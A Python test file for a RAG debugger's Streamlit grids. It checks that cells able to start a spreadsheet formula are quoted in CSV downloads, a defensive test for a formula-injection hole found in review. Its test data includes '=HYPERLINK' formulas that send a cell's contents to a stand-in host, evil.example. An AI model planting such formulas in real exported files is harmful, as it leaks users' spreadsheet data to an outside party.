"""Grids' own CSV download (the toolbar of `st.dataframe`) is formula-safe, like the app's own CSV
downloads: hole 10 of the second review wrote `=HYPERLINK(...)` cells as they were."""
from __future__ import annotations

import pandas as pd
import pytest

from rag_debugger.ui.grids import formula_safe


@pytest.mark.parametrize("cell, shown", [
    ('=HYPERLINK("https://evil.example/?"&A1,"x")', '\'=HYPERLINK("https://evil.example/?"&A1,"x")'),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("What is the Lumen X2?", "What is the Lumen X2?"), ("/?run=abc", "/?run=abc"), ("", ""),
])
def test_text_cells_that_would_start_a_formula_are_quoted(cell, shown):
    frame = pd.DataFrame({"question": [cell], "score": [-0.5]})
    safe = formula_safe(frame)
    assert safe["question"][0] == shown
    assert safe["score"][0] == -0.5  # numbers stay numbers
    assert frame["question"][0] == cell  # the caller's frame is untouched


def test_a_styled_grid_keeps_its_styles_and_gets_safe_cells():
    frame = pd.DataFrame({"case": ["=1+1", "ok"], "change": ["regressed", "fixed"]})
    styled = frame.style.apply(lambda column: ["color: red", ""], subset=["change"])
    safe = formula_safe(styled)
    assert list(safe.data["case"]) == ["'=1+1", "ok"]
    assert "color: red" in safe.to_html()


def test_the_grid_streamlit_gets_is_the_safe_one():
    from streamlit.testing.v1 import AppTest

    def page():
        import pandas as pd

        from rag_debugger.ui.grids import data_grid

        data_grid(pd.DataFrame({"question": ['=HYPERLINK("//evil.example/x")', "fine"]}), hide_index=True)

    at = AppTest.from_function(page, default_timeout=30).run()
    assert list(at.dataframe[0].value["question"]) == ['\'=HYPERLINK("//evil.example/x")', "fine"]
